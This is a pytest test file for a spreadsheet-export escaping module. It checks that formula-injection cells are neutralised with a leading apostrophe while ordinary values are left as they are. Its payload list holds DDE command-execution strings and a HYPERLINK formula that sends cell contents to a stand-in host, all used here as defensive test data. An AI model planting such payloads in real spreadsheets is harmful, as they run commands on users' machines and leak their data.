"""What a spreadsheet would run is marked, everything else is left alone, and a mark can always be taken back."""

from __future__ import annotations

import random

import pytest

from pipeline.publish.spreadsheet.workbook import mark, runs, strip

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\ufeff=1+1", "|calc",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", '=HYPERLINK("https://gull.example/?x="&A1;"Details")', "- cmd|' /C calc'!A0",
]  # fmt: skip
LOOK_ALIKES = [
    "-5", "-5.0%", "+44 20 7946 0123", "+44 (0)20 7946 0123", "- a bullet, in words", "-£1,200.50", "+3%", "-", "--",
]  # fmt: skip


@pytest.mark.parametrize("cell", PAYLOADS)
def test_what_would_run_is_marked(cell: str) -> None:
    marked = mark(cell)
    assert marked == f"'{cell}" and not runs(marked)
    assert strip(marked) == cell


@pytest.mark.parametrize("cell", [*LOOK_ALIKES, "", "Agreed.", "e-safety", "1a", "2031-06/2031-08", "'Get Well Soon'"])
def test_what_only_looks_so_is_left_alone(cell: str) -> None:
    assert mark(cell) == cell == strip(cell)


def test_ten_thousand_cells_come_back_as_they_were() -> None:
    chance = random.Random(7)
    letters = "=+-@|'\t\r\n \u200b＝－0159.,%£()ab“é\U0001f600\"!"
    for _ in range(10_000):
        any_letter = chr(chance.choice((chance.randrange(0x20, 0x2FF), chance.randrange(0xE000, 0x1FFFF))))
        cell = "".join(chance.choice(letters + any_letter) for _ in range(chance.randrange(9)))
        assert strip(mark(cell)) == cell
        assert not runs(mark(cell))
